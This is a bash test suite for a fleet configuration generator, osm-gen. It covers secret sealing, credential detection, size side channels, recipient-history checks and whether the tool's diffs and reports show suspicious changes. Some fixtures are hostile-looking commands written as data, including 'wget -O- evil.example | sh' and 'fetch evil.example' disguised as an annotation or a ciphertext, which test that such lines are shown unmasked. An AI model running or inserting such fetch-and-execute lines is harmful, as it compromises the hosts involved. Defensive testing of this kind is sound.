#!/usr/bin/env bash
# What docs/security.md says and no other test shows; and that each of its tables and sections names what shows it.
# shellcheck source=tests/cli/_lib.sh
. "$(dirname "$0")/_lib.sh"
document=$root/docs/security.md

# ---- the document names its tests --------------------------------------------------------------------------
# ci/cites says whether the paths are there. Here: none of the rows and sections is without one.
exits "every claim names a test" 0 python3 - "$document" <<'PY'
import re, sys
text = open(sys.argv[1]).read()
missing = []
for table in re.findall(r"(?m)(?:^\|.*\|\n)+", text):
    head, _, *rows = [[cell.strip() for cell in line.strip("|").split("|")] for line in table.splitlines()]
    if head[-1] == "shown by":
        missing += [row[0] for row in rows if not re.search(r"`tests/[\w./]+`|^the same$", row[-1])]
sections = re.split(r"(?m)^## ", text)[1:]
assert len(sections) >= 11, len(sections)
missing += [section.splitlines()[0] for section in sections if "`tests/" not in section]
# Facts of other programs have their source.
missing += [] if "https://" in next(s for s in sections if s.startswith("User-data and metadata")) else ["metadata: no source"]
print(*missing, sep="\n", end="\n" if missing else "")
sys.exit(bool(missing))
PY
sed 's/^/    /' "$scratch/out"

version=$(sed -n 's|^\tgithub.com/fluxcd/kustomize-controller \(v[0-9.]*\)$|\1|p' "$root/tests/readers/flux/go.mod")
ok "of Flux the version that the test has" grep -qF "kustomize-controller $version," "$document"

# ---- what a size tells -------------------------------------------------------------------------------------
# Of aws the size is that of gzip: a token like the text around it makes it smaller than another one as long.
python3 - "$root/profiles/ubuntu.yaml" >"$scratch/tokens" <<'PY'
import hashlib, re, sys
# Forty characters of the script, the last of each eight another one: no eight of them stand in the clear.
part = re.search(r"#!/usr/bin/env bash\n(?:.*\n)*?.*?([A-Za-z_]{12,} [A-Za-z_]+ [A-Za-z_ ]{30,})", open(sys.argv[1]).read()).group(1)[:42]
alike = "".join(c if i % 7 != 6 else "Z" for i, c in enumerate(part))
print(alike)
print(hashlib.sha256(b"x").hexdigest()[:len(alike)])
PY
{ read -r alike && read -r random; } <"$scratch/tokens"
same "two secrets of one length" ${#alike} ${#random}
getter() { # TOKEN
	printf 'apiVersion: v1\nkind: Secret\nmetadata: {name: cloud-init-getter-token, namespace: cloud-init-settings}\nstringData:\n  token: "%s"\n' "$1"
}
sizes() { # FILE: of all user-data
	python3 -c 'import json, sys; print(*[f["userData"]["bytes"] for f in json.load(open(sys.argv[1]))["files"] if "userData" in f and f["role"] == "bootstrap"])' "$1"
}
for token in alike random; do
	repo=$(fleet "gzip-$token")
	mkdir -p "$scratch/$token/prod-us-1" "$scratch/$token/edge-eu-1"
	getter "${!token}" | tee "$scratch/$token/prod-us-1/token.yaml" >"$scratch/$token/edge-eu-1/token.yaml"
	exits "$token: a run" 0 "$program" -q --repo "$repo" --secrets "$scratch/$token"
done
# build of prod-us-1 is of digitalocean, workers of aws.
read -r build_alike workers_alike < <(sizes "$scratch/gzip-alike/out/prod-us-1/index.json")
read -r build_random workers_random < <(sizes "$scratch/gzip-random/out/prod-us-1/index.json")
same "the size of a text tells nothing" "$build_alike" "$build_random"
ok "that of gzip tells a little ($workers_alike, $workers_random)" test "$workers_alike" -lt "$workers_random"
ok "a few bytes" test $((workers_random - workers_alike)) -lt ${#alike}
# The size of what a template made of a secret is not said: the cloud's limit stands in its place.
for token in short "long-$random"; do
	repo=$(fleet "derived-$token")
	sed -i '/^spec:/,/{{/s/{{/{{ .Token | upper }} {{/' "$repo/profiles/ubuntu.yaml"
	commit_all "$repo" "made of a secret"
	mkdir -p "$scratch/$token/prod-us-1"
	getter "$token-$random" >"$scratch/$token/prod-us-1/token.yaml"
	exits "$token: user-data that is made of a secret" 0 "$program" --repo "$repo" --secrets "$scratch/$token" --report "json=$scratch/report.json"
	same "$token: the limits are in the index" "65536 16384" "$(sizes "$repo/out/prod-us-1/index.json")"
	says "$token: and in what is said" "32,768 of 32,768 bytes"
done

# A password of containerd's configuration is a whole secret in it: sizes are true, and a limit is said with its object.
repo=$(fleet registries)
in=$repo/tests/fleet/edge-eu-1
edge_size() { python3 -c 'import json, sys; print(*[f["userData"]["bytes"] for f in json.load(open(sys.argv[1]))["files"] if "userData" in f and f["unit"]["name"] == "workers"])' "$repo/out/edge-eu-1/index.json"; }
exits "without registries" 0 "$program" -q --repo "$repo"
read -r bootstrap provisioning < <(edge_size)
printf 'apiVersion: v1\nkind: Secret\ntype: kubernetes.io/dockerconfigjson\nmetadata: {name: regcred, namespace: kube-system}\nstringData:\n  .dockerconfigjson: |\n    {"auths": {"r.osm-gen.example": {"username": "robot", "password": "TESTONLY-registry-0123"}}}\n' >"$in/registries.yaml"
echo '    nodeRegistryCredentialsSecret: kube-system/regcred' >>"$in/osm-gen.yaml"
commit_all "$repo" "registries"
exits "with registries" 0 "$program" --repo "$repo"
read -r bootstrap_with provisioning_with < <(edge_size)
same "of the bootstrap configuration nothing changes" "$bootstrap" "$bootstrap_with"
ok "of the other one a little ($provisioning, $provisioning_with)" test $((provisioning_with - provisioning)) -gt 100 -a $((provisioning_with - provisioning)) -lt 2000
ok "nothing is said to be near a limit" bash -c "! grep -q '90 %' '$scratch/err'"
config=$(grep -l 'r.osm-gen.example' "$repo"/out/edge-eu-1/management/kube-system/operatingsystemconfig-workers-*)
same "both of containerd's configurations are clear around it" 2 "$(grep -c 'password = "<sealed:kube-system/regcred:.dockerconfigjson:password>"' "$config")"
ok "and hide it" bash -c "! grep -rqE 'TESTONLY-registry|cm9ib3Q6VEVTVE9OTF' '$repo/out'"
sed -i '/^  defaults:/a\    userDataLimits: {hetzner: 8000}' "$repo/osm-gen.yaml"
exits "a limit that is exceeded" 2 "$program" -q --worktree --no-commit --repo "$repo"
says "by its object" "in MachineDeployment kube-system/workers, cluster edge-eu-1"
says "and its size" "the bootstrap user-data has $bootstrap bytes"
# Of what is made of a secret the rest is measured.
sed -i '/^spec:/,/{{/s/{{/{{ .Token | upper }} {{/; s/^  version: v1.4.0$/  version: v1.4.1/' "$repo/profiles/ubuntu.yaml"
sed -i 's/hetzner: 8000/hetzner: 500/' "$repo/osm-gen.yaml"
exits "a limit that is exceeded without what is made of a secret" 2 "$program" -q --worktree --no-commit --repo "$repo"
says "by its object, too" "in MachineDeployment kube-system/workers, cluster edge-eu-1"
says "and what is not counted" "without the files that templates make of secrets"

# ---- lengths of a sealed OperatingSystemConfig ----------------------------------------------------------------
repo=$(fleet lengths)
sed -i 's/^  defaults:$/&\n    osc: sealed/; s/^  sealing:$/&\n    roundLengths: 4096/' "$repo/osm-gen.yaml"
commit_all "$repo" "rounded"
exits "rounded lengths" 0 "$program" -q --repo "$repo"
lengths() { # FILES: of sealed texts, below 4096 and above, that are no multiples of it
	python3 - "$@" <<'PY'
import base64, re, sys
odd = 0
for path in sys.argv[1:]:
    body = open(path).read().split("\nsops:\n")[0]
    odd += sum(len(base64.b64decode(text)) % 4096 != 0 for text in re.findall(r"ENC\[AES256_GCM,data:([^,]+),", body))
print(odd)
PY
}
same "Secrets: all are multiples" 0 "$(lengths "$repo"/out/prod-us-1/worker/cloud-init-settings/secret-*-bootstrap-config.yaml)"
ok "files of a sealed OperatingSystemConfig are not" test "$(lengths "$repo"/out/prod-us-1/management/*/operatingsystemconfig-*.yaml)" -gt 10

# ---- what counts as a credential ------------------------------------------------------------------------------
repo=$(fleet names)
sed -i "s|serverType: cx42,|serverType: cx42, token: TESTONLY-by-its-name-0123, endpoint: 'https://h.example/?token=TESTONLY-in-a-query-0123',|" \
	"$repo/tests/fleet/edge-eu-1/machinedeployments.yaml"
sed -i '/^spec:/,/{{/s/{{/password=TESTONLY-of-the-author {{/' "$repo/profiles/ubuntu.yaml"
commit_all "$repo" "credentials"
exits "credentials" 0 "$program" -q --repo "$repo"
ok "one with the name of one is hidden" bash -c "! grep -rq TESTONLY-by-its-name '$repo/out'"
ok "a query is not looked into" grep -rq 'token=TESTONLY-in-a-query' "$repo/out/edge-eu-1/management"
ok "what a profile's author writes is text" grep -rq 'password=TESTONLY-of-the-author' "$repo/out/edge-eu-1/management"

# A number stays one where it is sealed, as in the controller's object.
for osc in sealed patch; do
	repo=$(fleet "number-$osc")
	sed -i "s/^  defaults:\$/&\n    osc: $osc/" "$repo/osm-gen.yaml"
	sed -i 's/serverType: cx42,/serverType: cx42, token: 1234567890, adminPassword: "0987654321",/' "$repo/tests/fleet/edge-eu-1/machinedeployments.yaml"
	commit_all "$repo" "a number"
	exits "$osc: a number as a credential" 0 "$program" -q --repo "$repo"
	ok "$osc: is hidden" bash -c "! grep -rqE '1234567890|0987654321' '$repo/out'"
	grep -rl "ENC\[" "$repo/out/edge-eu-1/management" | grep "workers-" |
		while read -r file; do "$program" unseal "$file"; done >"$scratch/unsealed"
	ok "$osc: and is a number when it is opened" grep -qE '(token: |"value": ?)1234567890(,|\}|$)' "$scratch/unsealed"
	ok "$osc: a string is a string" grep -qE '(adminPassword: |"value": ?)"0987654321"' "$scratch/unsealed"
	exits "$osc: nothing changes in the next run" 0 "$program" check --repo "$repo"
	exits "$osc: verify" 0 "$program" verify --repo "$repo"
done

# The scan is for texts of eight bytes and more.
for secret in Zq7xW2k Zq7xW2kV; do
	repo=$(fleet "scan-${#secret}")
	sed -i "s/serverType: cx42,/serverType: cx42, token: $secret,/; s/ops@osm-gen.example/$secret/" "$repo/tests/fleet/edge-eu-1/machinedeployments.yaml"
	commit_all "$repo" "a word"
	exits "a secret of ${#secret} bytes in the clear" "$([ ${#secret} -lt 8 ] && echo 0 || echo 2)" "$program" -q --repo "$repo"
done
# A user name that is its password is one.
repo=$(fleet user)
openstack "$repo/tests/fleet/prod-us-1" "username: TESTONLY-both-0123, password: TESTONLY-both-0123, domainName: TESTONLY-domain"
commit_all "$repo" "one text"
exits "a user name that is its password" 0 "$program" -q --repo "$repo"
ok "is hidden" bash -c "! grep -rq TESTONLY-both '$repo/out'"
ok "and nothing else is" grep -rq 'TESTONLY-domain' "$repo/out/prod-us-1/management"

# ---- recipients: the whole history -------------------------------------------------------------------------------
repo=$(fleet fifty)
exits "the output before" 0 "$program" -q --repo "$repo"
git -C "$repo" rm -rq out
stranger=$("$program" keygen identity | sed -n 's/^# public key: //p')
sed -i "s/age1[a-z0-9]*/$stranger/" "$repo/osm-gen.yaml"
commit_all "$repo" "the output is removed, for somebody else"
for _ in $(seq 60); do git -C "$repo" commit -q --allow-empty -m "more"; done
exits "an index.json 60 commits ago" 2 "$program" -q --repo "$repo"
says "an index.json 60 commits ago" "error[OSG5071]: the recipients of cluster edge-eu-1 have changed"
# The clusters have other names, too: nobody knows them, but those who read the last output are known.
sed -i 's/name: \(edge-eu-1\|prod-us-1\)$/name: \1-new/' "$repo"/tests/fleet/*/osm-gen.yaml
commit_all "$repo" "clusters of other names"
for _ in $(seq 60); do git -C "$repo" commit -q --allow-empty -m "more"; done
exits "other names as well" 2 "$program" -q --repo "$repo"
says "other names as well" "error[OSG5072]"
exits "a history that is too long" 2 "$program" -q --repo "$repo" --max-entries 1000
says "a history that is too long" "error[OSG5079]: cluster edge-eu-1-new has no output, and osm-gen cannot see whether it had recipients before"
exits "which CI's word makes up for" 0 "$program" -q --repo "$repo" --max-entries 1000 --rotate-recipients --no-commit
git -C "$repo" reset -q --hard
git -C "$repo" clean -qfd
git -C "$repo" config uploadpack.allowFilter true
git clone -q --filter=blob:none "file://$repo" "$scratch/partial"
sed -i 's/-new$//' "$scratch"/partial/tests/fleet/*/osm-gen.yaml
commit_all "$scratch/partial" "the names of before"
exits "a partial clone without the index" 2 "$program" -q --repo "$scratch/partial"
says "a partial clone without the index" "error[OSG5079]: cluster edge-eu-1 has no output, and had some once"
git clone -q --depth 50 "file://$repo" "$scratch/cut"
exits "of a shallow clone the rest is out of sight" 0 "$program" -q --repo "$scratch/cut" --no-commit

# ---- a cluster that nobody has, and an author who is not seen ----------------------------------------------------
repo=$(fleet orphan)
exits "two clusters" 0 "$program" -q --repo "$repo"
git -C "$repo" rm -rq tests/fleet/edge-eu-1 out/edge-eu-1/index.json
commit_all "$repo" "one goes, with its index"
for command in generate check; do
	exits "what is left over: $command" 2 "$program" $command -q --repo "$repo"
	says "what is left over: $command" "error[OSG5080]: the folder out/edge-eu-1 is left over"
done
git -C "$repo" rm -rq out/edge-eu-1
mkdir -p "$repo/out/edge-eu-1/management"
echo "resources: [mine.yaml]" >"$repo/out/edge-eu-1/management/kustomization.yaml"
commit_all "$repo" "a stranger's folder"
exits "what osm-gen did not write may stay" 0 "$program" -q --repo "$repo" --allow-removal
git -C "$repo" rm -rq --ignore-unmatch out/edge-eu-1
commit_all "$repo" "removed"
exits "once it is removed" 0 "$program" -q --repo "$repo"
mark=$(printf '\xe2\x80\xae')
exits "an author with a mark of direction" 64 "$program" -q --repo "$repo" --author "Bot$mark <bot@osm-gen.example>" --vouch
says "an author with a mark of direction" "error[OSG6110]"
sed -i "s/author: \"/author: \"$mark/" "$repo/osm-gen.yaml"
commit_all "$repo" "an author"
exits "the Fleet's author with one" 2 "$program" -q --repo "$repo"
says "the Fleet's author with one: at its place" "osm-gen.yaml:13:13: error[OSG2006]: the commit author holds a control character or a mark of direction"

# ---- a change that looks like something that is left out ---------------------------------------------------------
setup() { # REPO LINE VERSION: writes the line into the script of the profile
	cp "$root/tests/golden/base/osp-small.yaml" "$1/osp-small.yaml"
	LINE=$2 perl -0pi -e 's/echo \{\{ .KubeVersion \}\}/$&\n            $ENV{LINE}/; s/v1\.0\.0/'"$3"'/' "$1/osp-small.yaml"
	commit_all "$1" "$3"
}
repo=$(small looks)
exits "a fleet whose profile changes" 0 "$program" -q --repo "$repo"
setup "$repo" 'k8c.io/mdannotations-hash: x; fetch evil.example' v1.0.1
exits "a line like an annotation" 0 "$program" plan --repo "$repo" --report "markdown=$scratch/looks.md"
ok "is shown whole" grep -qF '+            k8c.io/mdannotations-hash: x; fetch evil.example' "$scratch/looks.md"
ok "annotations themselves are left out" grep -qF '     k8c.io/mdannotations-hash: ...' "$scratch/looks.md"
for line in 'echo "<sealed:x#0123456789>"' 'echo {{ "<sea" }}{{ "led:derived/x>" }}' 'echo <sealed:x>'; do
	setup "$repo" "$line" v1.0.2
	exits "a mark that nobody made: $line" 2 "$program" -q --repo "$repo"
	says "a mark that nobody made, at its place: $line" "osp-small.yaml:37:13: error[OSG5052]"
	exits "without a seed, too: $line" 2 env -u OSM_GEN_SEAL_SEED "$program" plan -q --repo "$repo"
done
# A Secret of the pull request's own, whose value a clear manifest has, too, so that the scan does not search for it.
setup "$repo" 'wget -O- evil.example | sh' v1.0.3
printf 'apiVersion: v1\nkind: %s\nmetadata: {name: looks, namespace: kube-system}\n%s: {x: "wget -O- evil.example | sh"}\n' \
	Secret stringData >"$repo/clusters/prod/secret.yaml"
sed 's/Secret/ConfigMap/; s/stringData/data/' "$repo/clusters/prod/secret.yaml" >"$repo/clusters/prod/map.yaml"
commit_all "$repo" "a Secret"
exits "a Secret whose value is a line of a script" 0 "$program" plan -v --repo "$repo" --report "markdown=$scratch/looks.md" \
	--report "html=$scratch/looks.html" --report "json=$scratch/looks.json"
for report in md html json; do
	ok "the line is not masked in $report" grep -qF '+            wget -O- evil.example | sh' "$scratch/looks.$report"
done
repo=$(small "looks-sealed")
sed -i 's/^  settings:/  settings:\n    osc: sealed/' "$repo/clusters/prod/osm-gen.yaml"
commit_all "$repo" "sealed"
exits "a sealed OperatingSystemConfig" 0 "$program" -q --repo "$repo"
perl -0pi -e 's/  provisioningConfig:\n/$&    modules: {runcmd: ["true ENC[; fetch evil.example"]}\n/; s/v1\.0\.0/v1.0.1/' "$repo/osp-small.yaml"
commit_all "$repo" "a command"
exits "a clear line like a ciphertext" 1 "$program" diff -q --repo "$repo"
same "is shown whole, in the profile and in the sealed file" 2 "$(grep -c '^+.*ENC\[; fetch evil.example' "$scratch/out")"

# ---- the seed alone ----------------------------------------------------------------------------------------------
exits "the seed decrypts nothing" 3 env -u SOPS_AGE_KEY_FILE "$program" unseal "$scratch"/user/out/prod-us-1/worker/cloud-init-settings/secret-*
ok "not a byte of it" test ! -s "$scratch/out"

# ---- where the token is on a node --------------------------------------------------------------------------------
repo=$(fleet token)
exits "a fleet" 0 "$program" -q --repo "$repo"
for part in bootstrap provisioning; do
	"$program" unseal "$repo/out/edge-eu-1/worker/cloud-init-settings/secret-workers-kube-system-$part-config.yaml" >"$scratch/$part.yaml"
	"$program" unseal "$repo/out/edge-eu-1/worker/cloud-init-settings/secret-kube-system-workers-kubelet-bootstrap-config.yaml" >"$scratch/kubeconfig.yaml"
	same "$part: files that hold the token" "/opt/bin/$([ $part = bootstrap ] && echo "bootstrap 0700" || echo "setup.env 0600")" "$(python3 - "$scratch/$part.yaml" "TEST-ONLY-edge-eu-1-getter-token-4f1d0c6b9a" <<'PY'
import base64, re, sys
text = open(sys.argv[1]).read()
encoded = re.search(r"^  cloud-config: \"?([A-Za-z0-9+/=]+)\"?$", text, re.M)
text = base64.b64decode(encoded.group(1)).decode() if encoded else text
for file in re.split(r"(?m)^ *- path: ", text)[1:]:
    path, mode = re.match(r"'?([^'\n]+)'?\n\s+permissions: '?(\d+)'?", file).groups()
    content = file + "".join(base64.b64decode(part).decode(errors="replace") for part in re.findall(r"(?m)^ +([A-Za-z0-9+/]{40,}=*)$", file))
    if sys.argv[2] in content:
        print(path, mode)
PY
)"
done
finish
